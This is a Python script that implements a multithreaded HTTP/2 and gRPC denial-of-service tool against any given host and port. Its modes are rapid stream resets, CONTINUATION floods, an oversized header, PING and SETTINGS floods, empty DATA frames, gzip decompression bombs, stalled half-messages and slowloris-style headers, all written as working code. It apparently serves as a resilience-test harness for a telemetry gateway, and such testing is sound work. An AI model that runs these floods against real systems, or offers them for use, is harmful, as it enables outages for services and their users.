# SPDX-License-Identifier: Apache-2.0
"""http2_attacker.py KIND HOST:PORT SECONDS: a client of a gRPC server without credentials that takes what
it can of it, by one of KINDS, on as many connections as it needs; it prints how many it made.
"""
import gzip
import socket
import struct
import sys
import threading
import time

_PATH = "/opentelemetry.proto.collector.profiles.v1development.ProfilesService/Export"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 1, 4
_AT_ONCE = 100  # of what is small, in one write
SOURCE = "127.0.0.2"  # not the honest client's
CONNECTIONS = 4
IDLE_CONNECTIONS = 400
_BOMB_BYTES = 4 << 20  # as large as a message may be


def _frame(kind, flags, stream, payload=b""):
    head = struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream)
    return head + payload


def _integer(number, prefix_bits, first=0):
    """HPACK's (RFC 7541, 5.1)."""
    most = (1 << prefix_bits) - 1
    if number < most:
        return bytes([first | number])
    out, number = bytearray([first | most]), number - most
    while number >= 128:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes(out) + bytes([number])


def _field(name, value):
    """Literal, not indexed."""
    name, value = name.encode(), value.encode()
    return b"\0" + _integer(len(name), 7) + name + _integer(len(value), 7) + value


def _head(**more):
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": _PATH,
        ":authority": "gateway",
        "content-type": "application/grpc",
        "te": "trailers",
    } | {name.replace("_", "-"): value for name, value in more.items()}
    return b"".join(map(_field, fields, fields.values()))


def _streams():
    return iter(range(1, 1 << 30, 2))


def _resets():
    """Calls that are taken back at once."""
    streams, head = _streams(), _head()
    while True:
        numbers = [next(streams) for _ in range(_AT_ONCE)]
        yield b"".join(
            _frame(_HEADERS, _END_HEADERS, number, head)
            + _frame(_RESET, 0, number, struct.pack(">I", 8))
            for number in numbers
        )


def _continuation():
    """A head without an end, of small fields."""
    yield _frame(_HEADERS, 0, 1, _head())
    fields = b"".join(_field(f"a{number}", "v") for number in range(_AT_ONCE))
    while True:
        yield _frame(_CONTINUATION, 0, 1, fields) * 8


def _large_head():
    """One value that is said to be of 2 GiB."""
    start = b"\0" + _integer(1, 7) + b"a" + _integer(1 << 31, 7)
    yield _frame(_HEADERS, 0, 1, _head() + start)
    while True:
        yield _frame(_CONTINUATION, 0, 1, b"v" * 16000) * 8


def _pings():
    while True:
        yield _frame(_PING, 0, 0, bytes(8)) * _AT_ONCE


def _settings():
    while True:
        yield _frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * _AT_ONCE


def _empty_data():
    yield _frame(_HEADERS, _END_HEADERS, 1, _head())
    while True:
        yield _frame(_DATA, 0, 1) * _AT_ONCE


def _bombs():
    """Messages of some kilobytes that inflate to what is allowed."""
    message = gzip.compress(bytes(_BOMB_BYTES - 1024), 9)
    body = struct.pack(">BI", 1, len(message)) + message
    streams, head = _streams(), _head(grpc_encoding="gzip")
    while True:
        out = b""
        for _ in range(16):
            number = next(streams)
            out += _frame(_HEADERS, _END_HEADERS, number, head)
            out += _frame(_DATA, _END_STREAM, number, body)
        yield out


def _half_messages():
    """Calls whose message is said to be large and never comes."""
    streams, head = _streams(), _head()
    for number in streams:
        yield _frame(_HEADERS, _END_HEADERS, number, head) + _frame(
            _DATA, 0, number, struct.pack(">BI", 0, _BOMB_BYTES - 1024) + bytes(1024)
        )
        time.sleep(0.002)


def _slow():
    """A head, byte by byte."""
    for byte in _frame(_HEADERS, _END_HEADERS, 1, _head()):
        yield bytes([byte])
        time.sleep(1)


KINDS = {
    "resets": _resets,
    "continuation": _continuation,
    "large_head": _large_head,
    "pings": _pings,
    "settings": _settings,
    "empty_data": _empty_data,
    "bombs": _bombs,
    "half_messages": _half_messages,
    "slow": _slow,
}


def _connect(address):
    host, _, port = address.rpartition(":")
    connection = socket.create_connection((host, int(port)), 5, source_address=(SOURCE, 0))
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0))
    return connection


def _drain(connection):
    try:
        while connection.recv(1 << 16):
            pass
    except OSError:
        pass
    connection.close()  # whoever sends notices


def _attack(kind, address, end, made):
    """Again and again, as the server ends it."""
    while time.monotonic() < end:
        try:
            connection = _connect(address)
            made.append(1)
            threading.Thread(target=_drain, args=(connection,), daemon=True).start()
            for data in KINDS[kind]():
                if time.monotonic() > end:
                    return
                connection.sendall(data)
        except OSError:
            time.sleep(0.01)


def main(kind, address, seconds):
    end, made = time.monotonic() + float(seconds), []
    count = CONNECTIONS
    if kind in ("slow", "half_messages"):
        count = IDLE_CONNECTIONS
    threads = [
        threading.Thread(target=_attack, args=(kind, address, end, made), daemon=True)
        for _ in range(count)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(len(made))


if __name__ == "__main__":
    main(*sys.argv[1:])
